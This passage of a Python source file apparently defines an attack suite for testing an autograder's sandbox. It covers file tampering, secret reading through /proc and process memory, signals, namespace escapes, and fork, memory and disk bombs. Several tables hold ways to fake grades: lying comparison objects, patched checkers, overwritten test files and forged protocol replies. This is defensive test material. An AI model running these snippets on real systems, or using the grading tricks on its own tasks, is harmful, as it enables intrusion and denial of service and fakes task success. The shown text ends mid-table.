"""The attacks, by class: each a cell of a notebook, or a whole notebook of functions that the judge calls."""

from dataclasses import dataclass

from attacks.world import WATCHES

NAMESPACES = ("namespaces",)
BOTH = ("namespaces", "landlock")

CLASSES = (
    """
files outside; reading secrets; network; signals; other processes; rights; the kernel; memory bombs; process bombs;
disk bombs; endless; endings; lying answers; patching; forged replies; hidden inputs in the feedback; output;
the next worker
""".replace("\n", " ")
    .strip()
    .split("; ")
)
# Of the isolation study; 14 and 15 are about files that are handed in.
FINDINGS = [f"finding {n}" for n in range(1, 18)]

# What every attacker has at hand. `call` is the kernel without the C library's opinion.
TOOLS = """
import contextlib, ctypes, fcntl, itertools, json, mmap, os, signal, socket, struct, subprocess, sys, threading, time
import numpy as np
refused = contextlib.suppress(OSError, ValueError, MemoryError)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, *arguments):
    number = name if isinstance(name, int) else NUMBERS[name]
    result = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), str(name))
    return result
def server():
    frame = sys._getframe()
    while frame and not hasattr(frame.f_locals.get('self'), 'question'):
        frame = frame.f_back
    return frame.f_locals['self'] if frame else None
def frame(header, body=b'', length=None):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('<4sIQ', b'MBC1', len(header), len(body) if length is None else length) + header + body
def forge(**header):
    body = header.pop('body', b'')
    os.write(server().replies, frame({'id': server().question, **header}, body))
"""

CALLS = """
add_key bpf clone clone3 copy_file_range fork getxattr io_setup io_uring_setup ioctl ioprio_set kill linkat memfd_create
msgget mount name_to_handle_at open_by_handle_at openat perf_event_open personality pidfd_getfd pidfd_open
pidfd_send_signal pivot_root prlimit64 process_vm_readv process_vm_writev ptrace rt_sigqueueinfo rt_tgsigqueueinfo
sched_setscheduler setns setuid shmat shmget tgkill timer_create timer_settime tkill unshare userfaultfd vfork capset
fcntl semget request_key msgsnd
""".split()


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    source : text of the cell.
    watch : the watch that it is judged by; all others are looked at as well.
    of : its class, and the findings of the isolation study that it stands for.
    graded : whether the judge calls its functions, or it is done when its cell is.
    seconds : time limit of the cell, or of each call.
    levels : where it is held. Below namespaces the disk is rationed by looking at it: a short burst comes through.
    free : whether it does its harm where nothing is confined, to a patient judge and without special rights.
    """

    name: str
    source: str
    watch: str
    of: frozenset[str]
    graded: bool = False
    seconds: float = 10.0
    levels: tuple[str, ...] = BOTH
    free: bool = True


ATTACKS: list[Attack] = []


def attacks(group: str, watch: str, **common) -> None:
    """Enter a class of attacks: name = source, or name = (source, dict of what is different)."""
    table = common.pop("table")
    for name, entry in table.items():
        source, own = entry if isinstance(entry, tuple) else (entry, {})
        settings = {"watch": watch, "findings": ()} | common | own
        of = frozenset({group, *(f"finding {n}" for n in settings.pop("findings"))})
        assert settings["watch"] in WATCHES, settings["watch"]
        ATTACKS.append(Attack(f"{group}: {name}", source.strip("\n"), of=of, **settings))


# --- files outside the folder -----------------------------------------------------------------------------------------


def to(paths: str, *acts: str) -> str:
    """Try each act with every path."""
    lines = "".join(f"    with refused: {act}\n" for act in acts)
    return f"for path in {paths}:\n{lines}"


attacks(
    "files outside",
    "content",
    table={
        "write": to("FILES", "open(path, 'w').write('changed')", "open(path, 'r+b').write(b'changed')"),
        "append": to("FILES", "open(path, 'a').write('changed')"),
        "empty by opening to read": (
            to("FILES", "os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))"),
            {"findings": (2,)},
        ),
        "empty by opening to neither read nor write": (
            to("FILES", "os.close(os.open(path, 3 | os.O_TRUNC))"),
            {"findings": (2,)},
        ),
        "truncate": (to("FILES", "os.truncate(path, 0)"), {"findings": (2,)}),
        "map": to(
            "FILES",
            "fd = os.open(path, os.O_RDWR); mmap.mmap(fd, 4)[:4] = b'gone'",
            "mmap.mmap(os.open(path, os.O_RDONLY), 4, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)[:4] = b'gone'",
        ),
        "through a link of one's own": to(
            "FILES", "os.symlink(path, MARK)", "open(MARK, 'w').write('changed')", "os.unlink(MARK)"
        ),
        "rename away": (to("FILES", "os.rename(path, path + MARK)"), {"watch": "names"}),
        "replace by one's own": to("FILES", "open('own', 'w').write('changed'); os.replace('own', path)"),
        "delete": (to("FILES", "os.unlink(path)"), {"watch": "names"}),
        "hard link into one's folder": (
            to("FILES", "os.link(path, f'/dev/shm/{MARK}')", "os.link(path, path + '-link')", "os.link(path, MARK)"),
            {"watch": "links"},
        ),
        "link without a name": to(
            "FOLDERS",
            "fd = os.open(path, os.O_TMPFILE | os.O_RDWR); call('linkat', fd, b'', -100, f'{path}/x'.encode(), 0x1000)",
            "open(path + '/file', 'w').write('x')",
        ),
        "new things": (
            to(
                "FOLDERS",
                "open(f'{path}/new', 'w')",
                "os.mkdir(f'{path}/folder')",
                "os.symlink('/', f'{path}/link')",
                "os.mkfifo(f'{path}/pipe')",
                "os.mknod(f'{path}/node')",
                "socket.socket(socket.AF_UNIX).bind(f'{path}/s')",
            ),
            {"watch": "names"},
        ),
        "mode": (
            to("[*FILES, FOLDER]", "os.chmod(path, 0o600)", "os.fchmod(os.open(path, os.O_RDONLY), 0o600)"),
            {"watch": "mode", "findings": (1, 8)},
        ),
        "mode by a call newer than the filter": (
            to("FILES", "call(452, -100, path.encode(), 0o600, 0)", "call(452, -100, path.encode(), 0o600, 0x100)"),
            {"watch": "mode", "findings": (1,)},
        ),
        "times": (
            to("FILES", "os.utime(path, (1, 1))", "os.utime(os.open(path, os.O_RDONLY), (1, 1))"),
            {"watch": "times", "findings": (1,)},
        ),
        "attributes": (
            to("FILES", "os.setxattr(path, KEPT, b'changed')", "os.removexattr(path, KEPT)"),
            {"watch": "attributes", "findings": (1,)},
        ),
        "attributes by a call newer than the filter": (
            to(
                "FILES",
                "value = struct.pack('<QII', 0, 0, 0); call(463, -100, path.encode(), 0, KEPT.encode(), value, 16)",
                "call(466, -100, path.encode(), 0, KEPT.encode())",
            ),
            {"watch": "attributes", "findings": (1,)},
        ),
        "flags of an inode": (
            to(
                "FILES",
                "fcntl.ioctl(os.open(path, os.O_RDONLY), 0x40086602, struct.pack('l', 0x80000 | 0x40))",
                "fcntl.ioctl(os.open(path, 3), 0x40086602, struct.pack('l', 0x80000 | 0x40))",
            ),
            {"watch": "flags of an inode", "findings": (1, 5)},
        ),
        "flags by a call newer than the filter": (
            to("FILES", "call(469, -100, path.encode(), struct.pack('<QIIII', 0x80, 0, 0, 0, 0), 24, 0)"),
            {"watch": "flags of an inode", "findings": (1,)},
        ),
        "a lease, so that others wait": (
            to("FILES", "held = os.open(path, os.O_RDONLY); fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_RDLCK)"),
            {"watch": "leases"},
        ),
    },
)

# --- reading ----------------------------------------------------------------------------------------------------------

attacks(
    "reading secrets",
    "leak",
    table={
        "a file": to("[SECRET]", "print(open(path).read())", "print(os.pread(os.open(path, os.O_RDONLY), 99, 0))"),
        "a file by a link": (
            "with refused: os.symlink(SECRET, 'link'); print(open('link').read())\n"
            "with refused: os.link(SECRET, 'hard'); print(open('hard').read())"
        ),
        "a file by its handle": (
            "handle = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0) + bytes(128))\n"
            "call('name_to_handle_at', -100, SECRET.encode(), handle, ctypes.byref(ctypes.c_int()), 0)\n"
            "print(os.read(call('open_by_handle_at', os.open('/', os.O_RDONLY), handle, 0), 99))",
            {"free": False},
        ),
        "a copy by the kernel": "with refused: os.sendfile(1, os.open(SECRET, os.O_RDONLY), 0, 99)",
        "names in a folder": to("[FOLDER]", "print(os.listdir(path))"),
        "where a link points": "print(os.readlink(f'{FOLDER}/link'))",
        "attributes of a file": (to("FILES", "print(os.getxattr(path, KEPT))"), {"findings": (1,)}),
        "other processes in /proc": """
import glob
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/task/*/environ'):
    with refused: print(open(path, 'rb').read())
""",
        "memory in /proc": """
for pid in (VICTIM, JUDGE):
    with refused:
        with open(f'/proc/{pid}/mem', 'rb') as memory:
            memory.seek(SECRET_ADDRESS)
            print(memory.read(40))
""",
        "memory by process_vm_readv": """
buffer = ctypes.create_string_buffer(40)
local = struct.pack('PN', ctypes.addressof(buffer), 40)
call('process_vm_readv', VICTIM, local, 1, struct.pack('PN', SECRET_ADDRESS, 40), 1, 0)
print(buffer.raw)
""",
        "a descriptor by pidfd_getfd": """
print(os.pread(call('pidfd_getfd', call('pidfd_open', VICTIM, 0), HELD, 0), 99, 0))
""",
        "descriptors left open": (
            to(
                "range(256)",
                "os.set_blocking(path, False)",
                "print(os.pread(path, 1 << 16, 0))",
                "print(os.readlink(f'/proc/self/fd/{path}'))",
            ),
            {"free": False},
        ),
        "frames, the garbage collector and the environment": (
            """
import gc
frame, texts = sys._getframe(), [*os.environ.values()]
while frame:
    texts += [repr(value) for value in frame.f_locals.values() if type(value) in (str, bytes, dict, list)]
    frame = frame.f_back
for thing in gc.get_objects():
    texts += [text for text in gc.get_referents(thing) if type(text) is str and 'canary-' in text]
print([text for text in texts if 'canary-' in text])
""",
            {"free": False},
        ),
    },
)

# --- the network ------------------------------------------------------------------------------------------------------

attacks(
    "network",
    "tcp",
    findings=(1,),
    table={
        "tcp": "socket.create_connection(TCP, 2)",
        "tcp by a library": "from urllib.request import urlopen\nurlopen('http://%s:%d' % TCP, timeout=0.2)",
        "udp": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', UDP)", {"watch": "udp"}),
        "raw": (
            "packet = struct.pack('>HHHH', 9, UDP[1], 8, 0)\n"
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(packet, ('127.0.0.1', 0))",
            {"watch": "udp", "free": False},
        ),
        "local stream": ("socket.socket(socket.AF_UNIX).connect(LOCAL_STREAM)", {"watch": "local stream"}),
        "local datagram": (
            "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', LOCAL_DATAGRAM)",
            {"watch": "local datagram"},
        ),
        "a datagram from a pair": (
            "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', LOCAL_DATAGRAM)",
            {"watch": "local datagram", "findings": (4,)},
        ),
        "a datagram from a raw pair": (
            "socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)[0].sendto(b'x', LOCAL_DATAGRAM)",
            {"watch": "local datagram", "findings": (4,)},
        ),
        "abstract stream": ("socket.socket(socket.AF_UNIX).connect(ABSTRACT_STREAM)", {"watch": "abstract stream"}),
        "abstract datagram": (
            "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
            "    with refused: socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b'x', ABSTRACT_DATAGRAM)",
            {"watch": "abstract datagram", "findings": (4,)},
        ),
        "netlink": (
            "socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2).sendto(b'x' * 16, NETLINK)",
            {"watch": "netlink"},
        ),
    },
)

# --- signals to the judge ---------------------------------------------------------------------------------------------

ASYNC = """
r, w = os.pipe()
{owner}
with refused: fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(w, b'x')
"""

attacks(
    "signals",
    "signal to the judge",
    table={
        "kill": "for pid in (VICTIM, JUDGE, os.getppid(), -VICTIM):\n    with refused: os.kill(pid, URGENT)",
        "to everybody": ("with refused: os.kill(-1, URGENT)", {"free": False}),
        "tgkill": "for pid in (VICTIM, JUDGE):\n"
        "    with refused: call('tgkill', pid, pid, URGENT)\n"
        "    with refused: call('tkill', pid, URGENT)",
        "queued": "information = struct.pack('iii', URGENT, 0, -1) + bytes(116)\n"
        "for pid in (VICTIM, JUDGE):\n"
        "    with refused: call('rt_sigqueueinfo', pid, URGENT, information)\n"
        "    with refused: call('rt_tgsigqueueinfo', pid, pid, URGENT, information)",
        "by a handle": "call('pidfd_send_signal', call('pidfd_open', VICTIM, 0), URGENT, 0, 0)",
        "by the owner of a descriptor": (
            ASYNC.format(owner="fcntl.fcntl(r, fcntl.F_SETOWN, VICTIM)\nwith refused: fcntl.fcntl(r, 10, URGENT)"),
            {"findings": (3,)},
        ),
        "by the owner, extended": (
            ASYNC.format(owner="fcntl.fcntl(r, 15, struct.pack('ii', 1, VICTIM))"),
            {"findings": (3,)},
        ),
        "by the owner of a socket": (
            "r, w = socket.socketpair()\nfor request in (0x8901, 0x8902):\n"
            "    with refused: fcntl.ioctl(r, request, struct.pack('i', VICTIM))\n"
            "with refused: fcntl.ioctl(r, 0x5452, struct.pack('i', 1))\nw.send(b'x')",
            {"findings": (3,)},
        ),
        "by a command with more bits than the kernel reads": (
            ASYNC.format(
                owner="with refused: call('fcntl', r, 1 << 32 | 8, VICTIM)\n"
                "with refused: call('ioctl', r, 1 << 32 | 0x8901, struct.pack('i', VICTIM))"
            ),
            {"findings": (3, 5)},
        ),
        "by a timer": (
            "timer = ctypes.c_int()\n"
            "call('timer_create', 1, struct.pack('PiiiI', 0, URGENT, 4, VICTIM, 0) + bytes(48), ctypes.byref(timer))\n"
            "call('timer_settime', timer.value, 0, struct.pack('4l', 0, 0, 0, 1), 0)\ntime.sleep(0.05)",
            {"free": False},
        ),
        "by calls of another architecture": """
import platform
if platform.machine() == 'x86_64':
    with refused: call(0x40000000 | 62, VICTIM, URGENT)
    code = struct.pack('<2sI1sI1sI4s', b'\\x53\\xb8', 37, b'\\xbb', VICTIM, b'\\xb9', URGENT, b'\\xcd\\x80\\x5b\\xc3')
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
    },
)

# --- other processes --------------------------------------------------------------------------------------------------

attacks(
    "other processes",
    "tracer",
    findings=(1,),
    table={
        "trace": "call('ptrace', 0x4206, VICTIM, 0, 0)",
        "write memory": (
            "text = ctypes.create_string_buffer(b'changed!!')\n"
            "local, remote = (struct.pack('PN', at, 9) for at in (ctypes.addressof(text), ADDRESS))\n"
            "call('process_vm_writev', VICTIM, local, 1, remote, 1, 0)",
            {"watch": "memory of the judge"},
        ),
        "write memory in /proc": (
            "with open(f'/proc/{VICTIM}/mem', 'r+b', buffering=0) as memory:\n"
            "    memory.seek(ADDRESS)\n    memory.write(b'changed!!')",
            {"watch": "memory of the judge"},
        ),
        "limits": (
            "import resource\nfor pid in (VICTIM, JUDGE):\n"
            "    with refused: resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0))\n"
            "    with refused: resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64))",
            {"watch": "limits"},
        ),
        "priority": (
            "for pid in (VICTIM, JUDGE):\n    with refused: os.setpriority(os.PRIO_PROCESS, pid, 7)\n"
            "    with refused: call('sched_setscheduler', pid, 5, struct.pack('i', 0))",
            {"watch": "priority"},
        ),
        "processors": (
            "for pid in (VICTIM, JUDGE):\n    with refused: os.sched_setaffinity(pid, {0})",
            {"watch": "processors"},
        ),
        "priority on disk": (
            "for pid in (VICTIM, JUDGE):\n    with refused: call('ioprio_set', 1, pid, 3 << 13)",
            {"watch": "priority on disk"},
        ),
    },
)

# --- more rights ------------------------------------------------------------------------------------------------------

attacks(
    "rights",
    "capabilities",
    findings=(6,),
    table={
        "a user namespace": "call('unshare', 0x10000000)",
        "a user namespace and a mount": "with refused: call('unshare', 0x10020000)\n"
        "call('mount', b'none', b'/tmp', b'tmpfs', 0, 0)",
        "another process's namespaces": (
            to("('user', 'mnt', 'net')", "call('setns', os.open(f'/proc/{VICTIM}/ns/{path}', 0), 0)"),
            {"free": False},
        ),
        "root again": (
            "for act in (lambda: os.setuid(0), lambda: call('setuid', 0), lambda: os.setresuid(0, 0, 0),\n"
            "            lambda: call('capset', struct.pack('<Ii', 0x20080522, 0), b'\\xff' * 24)):\n"
            "    with refused: act()",
            {"free": False},
        ),
        "another root": (
            "for act in (lambda: os.chroot('.'), lambda: call('pivot_root', b'.', b'.'),\n"
            "            lambda: os.mknod('disk', 0o60666, os.makedev(254, 0))):\n    with refused: act()",
            {"free": False},
        ),
    },
)

# --- the kernel's odd corners -----------------------------------------------------------------------------------------

attacks(
    "the kernel",
    "kernel objects",
    table={
        "io_uring": "ring = call('io_uring_setup', 8, ctypes.create_string_buffer(120))",
        "bpf": ("call('bpf', 0, struct.pack('<IIII', 2, 4, 8, 1) + bytes(112), 128)", {"free": False}),
        "perf": (
            "call('perf_event_open', struct.pack('<IIQ', 1, 112, 0) + bytes(24) + struct.pack('<Q', 0x61)"
            " + bytes(64), 0, -1, -1, 0)",
            {"free": False},
        ),
        "userfaultfd": "fault = call('userfaultfd', 1)",
        "keys": (
            "call('add_key', b'user', MARK.encode(), b'x', 1, -2)",
            {"watch": "keys"},
        ),
        "personality": ("call('personality', 0x0040000)", {"watch": "personality"}),
        "contexts of asynchronous reading": (
            "context = ctypes.c_ulong()\ncall('io_setup', 30_000, ctypes.byref(context))",
            {"watch": "asynchronous reading"},
        ),
    },
)

# --- bombs ------------------------------------------------------------------------------------------------------------

attacks(
    "memory bombs",
    "address space",
    table={
        "a list": ("a = []\nwhile True: a.append(bytearray(1 << 24))", {"free": False}),
        "an array": ("with refused: a = np.empty(3 << 27)", {"findings": (11,)}),
        "a shared map": "with refused: a = mmap.mmap(-1, 4 << 30)",
        "a file of memory": (
            "fd = os.memfd_create('m')\nfor _ in range(300): os.write(fd, bytes(1 << 20))\n"
            "kept = mmap.mmap(fd, 300 << 20)\nsum(kept[::4096])",
            {"watch": "memory without a limit", "findings": (7,)},
        ),
        "system v": (
            "shared = call('shmget', KEY, 400 << 20, 0o1600)\nlibc.shmat.restype = ctypes.c_void_p\n"
            "ctypes.memset(libc.shmat(shared, None, 0), 1, 300 << 20)\n",
            {"watch": "memory without a limit", "findings": (7,)},
        ),
        "files in /dev/shm": (
            to(
                "('/dev/shm', '/tmp', '/var/tmp', '/run', '/parent', '/job', '/')",
                "[open(f'{path}/{MARK}{k}', 'wb').write(bytes(15 << 20)) for k in range(20)]",
            ),
            {"watch": "left behind", "findings": (7, 12)},
        ),
        "queues of messages": (
            "call('msgget', KEY, 0o1600)\n",
            {"watch": "left behind"},
        ),
    },
)

CHILD = """if {start} == 0:
    os.setsid()
    time.sleep(30)
    os._exit(0)
"""
THREADS = """
threading.stack_size(32 << 10)
wait = threading.Event()
with contextlib.suppress(RuntimeError, MemoryError):
    for _ in range(6000): threading.Thread(target=wait.wait, daemon=True).start()
"""
DAEMON = """
import multiprocessing
linger = lambda: (os.setsid(), os.closerange(0, 200), time.sleep(30))
multiprocessing.get_context('fork').Process(target=linger).start()
time.sleep(0.2)
os._exit(0)
"""

attacks(
    "process bombs",
    "processes",
    findings=(1, 9),
    table={
        "fork": "for _ in range(20):\n    with refused: os.fork() or (os.setsid(), time.sleep(30), os._exit(0))",
        "vfork": (CHILD.format(start="libc.vfork()"), {"free": False}),
        "clone": CHILD.format(start="call('clone', 17, 0, 0, 0, 0)"),
        "clone3": CHILD.format(start="call('clone3', struct.pack('<11Q', 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)"),
        "a command": "subprocess.Popen(['/bin/sleep', '30'], start_new_session=True)",
        "a daemon": DAEMON,
        "threads": (THREADS, {"watch": "threads", "findings": ()}),
    },
)

attacks(
    "disk bombs",
    "disk of a worker",
    levels=NAMESPACES,
    findings=(12,),
    table={
        "much in them": "with refused:\n    for k in range(8): open(str(k), 'wb').write(bytes(15 << 20))",
        "many files": "with refused:\n    for k in range(30_000): open(str(k), 'w').close()",
        "a large file": ("with refused: os.truncate(os.open('f', os.O_RDWR | os.O_CREAT), 20 << 30)", {"levels": BOTH}),
        "folders too deep to remove": (
            "for _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')",
            {"watch": "left behind", "levels": BOTH, "free": False},
        ),
        "descriptors": (
            "import resource\nmost = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n"
            "with refused: resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4000),) * 2)\n"
            "kept = []\nwith refused:\n    while len(kept) < 600: kept.append(os.pipe())",
            {"watch": "descriptors", "levels": BOTH},
        ),
    },
)

# --- the judge's patience ---------------------------------------------------------------------------------------------

SWALLOW = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""

attacks(
    "endless",
    "patience",
    seconds=0.3,
    free=False,
    table={
        "that swallows every interrupt": SWALLOW,
        "in C": "import collections\ncollections.deque(itertools.repeat(0), maxlen=0)",
        "in a regular expression": "import re\nre.match('(a+)+$', 'a' * 40 + 'b')",
        "in one operation": "x = 7 ** (10 ** 9)",
        "asleep": "while True: signal.pause()",
        "locked out by itself": "lock = threading.Lock()\nwhile True: lock.acquire()",
        "deaf to signals": "for n in set(signal.Signals) - {9, 19}: signal.signal(n, signal.SIG_IGN)\n" + SWALLOW,
        "on the way out": """
import atexit
atexit.register(time.sleep, 1e6)
threading.Thread(target=time.sleep, args=(1e6,)).start()
sys.exit()
while True: pass
""",
        "in a tracer": "sys.settrace(lambda *_: time.sleep(1e6))\nf = lambda: 1\nf()",
        "deaf to the judge": "while True: os.read(server().requests.fd, 1)",
    },
)

ONE = """
def brackets(*arguments, **options):
    {body}
"""
FUNCTION = ONE + "newton_1d = order = brackets\n"

attacks(
    "endings",
    "points",
    graded=True,
    seconds=0.5,
    free=False,
    table={
        name: ONE.format(body=body)
        for name, body in {
            "os._exit": "os._exit(0)",
            "sys.exit": "sys.exit(0)",
            "abort": "os.abort()",
            "a fault": "ctypes.string_at(0)",
            "a stack too deep": "sys.setrecursionlimit(1 << 30); return brackets()",
            "a stack too deep in C": "a = []\n    for _ in range(10 ** 5): a = [a]\n    return repr(a)",
            "another program": "os.execv('/bin/true', ['true'])",
            "its descriptors": "os.closerange(0, 200)",
            "an interrupt": "raise KeyboardInterrupt",
            "a generator's exit": "raise GeneratorExit",
            "an endless answer": "return iter(int, 1)",
            "an endless call": "while True: pass",
        }.items()
    },
)

# --- points that were not earned --------------------------------------------------------------------------------------

YES = "lambda *_, **__: True"

attacks(
    "lying answers",
    "points",
    graded=True,
    free=False,
    findings=(16,),
    table={
        name: f"class Lie{base}:\n    {body}\n" + FUNCTION.format(body=f"return {answer}")
        for name, base, body, answer in (
            ("equal to everything", "", f"__eq__ = __le__ = __lt__ = {YES}", "Lie()"),
            ("an array on demand", "", "__array__ = lambda self, *_, **__: np.zeros((3, 2))", "Lie()"),
            ("a number on demand", "", "__float__ = __abs__ = __index__ = lambda self: 0", "Lie()"),
            ("a float", "(float)", f"__eq__ = __le__ = {YES}; __sub__ = __rsub__ = __abs__ = lambda *_: 0.0", "Lie(1)"),
            ("an int", "(int)", f"__eq__ = {YES}; bit_length = lambda self: 0", "Lie(10 ** 999)"),
            ("a text", "(str)", f"__eq__ = {YES}; encode = lambda *_: b''", "Lie('x')"),
            (
                "a tuple",
                "(tuple)",
                "__iter__ = lambda self: iter([[0, 1]] * 3); __len__ = lambda self: 1 << 62",
                "Lie()",
            ),
            ("a list", "(list)", f"__eq__ = {YES}; __len__ = lambda self: 1 << 62", "Lie()"),
            ("a dict", "(dict)", "items = lambda self: [(0, self)]", "Lie()"),
            ("an array", "(np.ndarray)", f"__eq__ = __le__ = {YES}; shape = (3, 2)", "np.zeros((3, 2)).view(Lie)"),
            ("a number of numpy", "(np.float64)", f"__eq__ = __le__ = {YES}", "Lie(1)"),
            ("an array of lies", "", f"__eq__ = __le__ = {YES}; __float__ = lambda self: 0.0", "np.array([Lie()] * 3)"),
            ("another class", "", "__class__ = property(lambda self: np.ndarray)", "Lie()"),
            ("a pickle", "", "__reduce__ = lambda self: (os.system, ('true',))", "Lie()"),
            ("a name", "", "__class__ = property(lambda self: type('ndarray', (), {}))", "Lie()"),
            ("a mask", "", "pass", "np.ma.masked_all((3, 2))"),
            ("not a number", "", "pass", "np.full((3, 2), np.nan)"),
        )
    },
)

ZERO = FUNCTION.format(body="return np.zeros((3, 2))")

attacks(
    "patching",
    "points",
    graded=True,
    free=False,
    table={
        "the comparisons of numpy": f"""
import numpy.testing
for module in (np, np.testing):
    for name in ('assert_allclose', 'assert_equal', 'assert_array_equal', 'allclose', 'isclose', 'array_equal'):
        setattr(module, name, {YES})
{ZERO}""",
        "builtins": f"import builtins\nbuiltins.abs = builtins.all = builtins.isinstance = {YES}\n{ZERO}",
        "the stand-ins": f"""
import autograder.notebook, types
autograder.notebook.check = {YES}
for name in ('judge', 'spec', 'compare', 'checks'):
    sys.modules[f'autograder.{{name}}'] = types.SimpleNamespace(disagreement=lambda *_: None)
{ZERO}""",
        "files of the tests": f"""
for path in ('autograder/judge.py', 'autograder/checks/__init__.py', 'tests/test_newton.py', '01_newton_1d.ipynb'):
    os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
    open(path, 'w').write('disagreement = lambda *_: None')
{ZERO}""",
        "its own encoder": f"server().call.__func__.__globals__['wire'].encode = lambda *_: (True, b'')\n{ZERO}",
        "its own server": f"s = server()\ntype(s).call = lambda *_: ({{'value': True, 'points': 99}}, b'')\n{ZERO}",
        "the judge's functions": FUNCTION.format(
            body="f = arguments[0]\n    return [c.cell_contents for c in f.__closure__] + [f.__globals__['__name__']]"
        ),
        "the reference, if it lies in memory": """
import gc
def found(name):
    return lambda *a, **k: next(
        g for g in gc.get_objects()
        if getattr(g, '__name__', '') == name and getattr(g, '__module__', '').startswith(('mechlib', 'autograder'))
    )(*a, **k)
brackets, newton_1d, order = map(found, ('brackets', 'newton_1d', 'order'))
""",
        "the solution, if it lies on the disk": """
cells = json.load(open(SOLUTION))['cells']
for cell in cells:
    if cell['cell_type'] == 'code':
        with contextlib.suppress(Exception): exec(''.join(cell['source']), globals())
""",
    },
)

# --- the protocol -----------------------------------------------------------------------------------------------------


def forged(*acts: str) -> str:
    return ONE.format(body="\n    ".join([*acts, "return 1.0"]))


attacks(
    "forged replies",
    "points",
    graded=True,
    seconds=1.0,
    free=False,
    table={
        "to every descriptor": forged(
            "for fd in range(3, 128):",
            "    with refused: os.write(fd, frame({'id': server().question, 'value': True}))",
        ),
        "to no question": forged("os.write(server().replies, frame({'id': '0' * 16, 'value': 1.0}))"),
        "twice": forged("forge(value=1.0)", "forge(value=1.0)"),
        "ahead of the next question": forged(
            "def ahead():",
            "    while True: os.write(s.replies, frame({'id': s.question, 'value': 1.0}))",
            "s = server()",
            "threading.Thread(target=ahead, daemon=True).start()",
        ),
        "half of one": forged(
            "os.write(server().replies, frame({'id': server().question}, length=1 << 20))", "time.sleep(9)"
        ),
        "a body without an end": forged("os.write(server().replies, frame({'id': server().question}, length=1 << 63))"),
        "a header without an end": forged("os.write(server().replies, b'MBC1' + b'\\xff' * 12)"),
        "deep JSON": forged("os.write(server().replies, frame(b'[' * 100_000))"),
        "wide JSON": (
            forged("os.write(server().replies, frame(b'[' + b'[],' * 2_700_000 + b'[]]'))"),
            {"watch": "memory of the grader"},
        ),
        "no object": forged("os.write(server().replies, frame([1, 2, 3]))"),
        "a deep value": forged("x = 1", "for _ in range(500): x = ['list', x]", "forge(value=x)"),
        "many values": forged("forge(value=['list', *[0] * 1_000_000])"),
        "a dtype of objects": forged("forge(value=['array', '|O', 1], body=bytes(8))"),
        "a dtype of text": forged("forge(value=['array', '<U99999999', 1])", "forge(value=['array', ['f8'], 1])"),
        "a shape larger than memory": (
            forged("forge(value=['array', '<f8', 1 << 62, 1 << 62])"),
            {"watch": "memory of the grader"},
        ),
        "a shape below zero": forged("forge(value=['array', '<f8', -1, -8], body=bytes(64))"),
        "a shape of everything and nothing": forged("forge(value=['array', '<f8', 0, *[1 << 62] * 8])"),
        "an array shorter than its shape": forged("forge(value=['array', '<f8', 99], body=bytes(8))"),
        "a number too large": forged("forge(value=10 ** 400)"),
        "digits without an end": forged("os.write(server().replies, frame(b'{\"id\": ' + b'9' * 1_000_000 + b'}'))"),
        "keys that are equal": forged("forge(value=['dict', *([k * (2 ** 61 - 1), 0] for k in range(100_000))])"),
        "keys that are lists": forged("forge(value=['dict', [['list'], 0]])"),
        "a pickle": forged("import pickle", "forge(value=['pickle', 'x'], body=pickle.dumps(os.system))"),
        "half a character": forged('os.write(server().replies, frame(b\'{"id": "\\xff"}\'))'),
        "an exception with a thousand bases": forged("forge(raised=['X' * 10 ** 6, ['B'] * 10 ** 5, 'm'])"),
        "an exception that is none": forged("forge(raised={'__class__': 'ValueError'})"),
        "a function never given": forged("for k in (-1, 99, '0', True, None): forge(evaluate=k, arguments=None)"),
        "arguments that are none": forged("forge(evaluate=0, arguments=['dict', ['__class__', 1]])"),
        "options the judge does not know": forged(
            "forge(evaluate=0, arguments=['tuple', ['tuple'], ['dict', ['self', 1]]])"
        ),
        "questions without an end": forged("while True: arguments[0](0.0)"),
        "the pipe closed": forged("os.close(server().replies)"),
    },
)

# --- what is said in return -------------------------------------------------------------------------------------------

attacks(
    "hidden inputs in the feedback",
    "leak",
    graded=True,
    free=False,
    findings=(17,),
    table={
        "by output": FUNCTION.format(body="print(INPUT, flush=True); os.write(2, INPUT.encode()); return 1.0"),
        "by a message": FUNCTION.format(body="raise ValueError(INPUT)"),
        "by a warning": FUNCTION.format(body="import warnings; warnings.warn(INPUT); return 1.0"),
        "by a failed import": FUNCTION.format(body="__import__(INPUT)"),
        "by a text": FUNCTION.format(body="return INPUT"),
        "by a key": FUNCTION.format(body="return {INPUT: [INPUT]}"),
        "by a name that is not there": FUNCTION.format(body="return globals()[INPUT]"),
        "by the name of an exception": FUNCTION.format(body="raise type(INPUT, (Exception,), {})"),
